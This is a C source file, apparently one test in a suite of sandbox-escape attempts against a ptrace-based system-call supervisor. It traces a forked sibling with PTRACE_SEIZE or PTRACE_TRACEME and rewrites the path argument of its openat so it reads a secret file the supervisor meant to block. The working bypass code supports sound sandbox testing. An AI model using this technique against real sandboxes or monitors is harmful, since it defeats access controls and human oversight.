/* e0508-ptrace-sibling - trace a sibling and rewrite its system call.
 *
 * Attack: a child of the program opens an allowed file in a loop; the
 * program attaches to it with ptrace (PTRACE_SEIZE; then, as a second
 * way, a child that asks with PTRACE_TRACEME) and, at the entry of its
 * next openat, points the path argument at the secret's path, already in
 * the child's memory (argv).  A supervisor checks the call at its own
 * stop, before this second tracer rewrites it... if the attach works.
 * Source: janus team (DESIGN.md "bypassing the tracer: ptrace of a
 * sibling"); Garfinkel 2003 (indirect paths: debugging interfaces).
 * Usage: e0508-ptrace-sibling ALLOWED SECRET */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

static void victim(const char *allowed, const char *expect, bool traceme)
{
	if (traceme) {
		long r = ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		esc_show_result("child: PTRACE_TRACEME", r);
		if (r == 0)
			raise(SIGSTOP);
	}
	char label[64];
	snprintf(label, sizeof label, "child (%s)", traceme ? "TRACEME" : "SEIZE");
	esc_race_open(label, allowed, expect);
	_exit(0);
}

/* The call's number and second argument in the registers of a stop. */
#if defined(__x86_64__)
#define REG_NR(regs) ((regs).orig_rax)
#define REG_ARG1(regs) ((regs).rsi)
#elif defined(__i386__)
#define REG_NR(regs) ((regs).orig_eax)
#define REG_ARG1(regs) ((regs).ecx)
#endif

#if defined(REG_NR)
/* Runs the traced child to the entry of an openat and rewrites its path. */
static void rewrite(pid_t pid, const char *secret)
{
	bool entry = true;
	for (int stops = 0; stops < 10000; stops++) {
		int status;
		if (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) < 0 || waitpid(pid, &status, __WALL) != pid ||
		    !WIFSTOPPED(status))
			return;
		if (WSTOPSIG(status) != (SIGTRAP | 0x80))
			continue;
		struct user_regs_struct regs;
		ptrace(PTRACE_GETREGS, pid, NULL, &regs);
		if (entry && REG_NR(regs) == SYS_openat) {
			REG_ARG1(regs) = (unsigned long)secret;	/* same address in the child */
			esc_show_result("parent: rewrite the child's openat",
					ptrace(PTRACE_SETREGS, pid, NULL, &regs));
			ptrace(PTRACE_DETACH, pid, NULL, NULL);
			return;
		}
		entry = !entry;
	}
}
#endif

static void attempt(const char *allowed, const char *secret, const char *expect, bool traceme)
{
	fflush(NULL);
	pid_t pid = fork();
	if (pid < 0)
		esc_die("fork");
	if (pid == 0)
		victim(allowed, expect, traceme);
#if defined(REG_NR)
	int status;
	if (traceme) {
		if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
			ptrace(PTRACE_SETOPTIONS, pid, NULL, (void *)PTRACE_O_TRACESYSGOOD);
			rewrite(pid, secret);
		}
	} else {
		long r = ptrace(PTRACE_SEIZE, pid, NULL, (void *)PTRACE_O_TRACESYSGOOD);
		esc_show_result("parent: PTRACE_SEIZE the child", r);
		if (r == 0 && ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
		    waitpid(pid, &status, __WALL) == pid)
			rewrite(pid, secret);
	}
#else
	(void)secret;
#endif
	waitpid(pid, NULL, __WALL);
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0508-ptrace-sibling ALLOWED SECRET");
	char expect[512];
	if (esc_read_file(argv[1], expect, sizeof expect) < 0)
		esc_die(argv[1]);
	attempt(argv[1], argv[2], expect, false);
	attempt(argv[1], argv[2], expect, true);
	return 0;
}
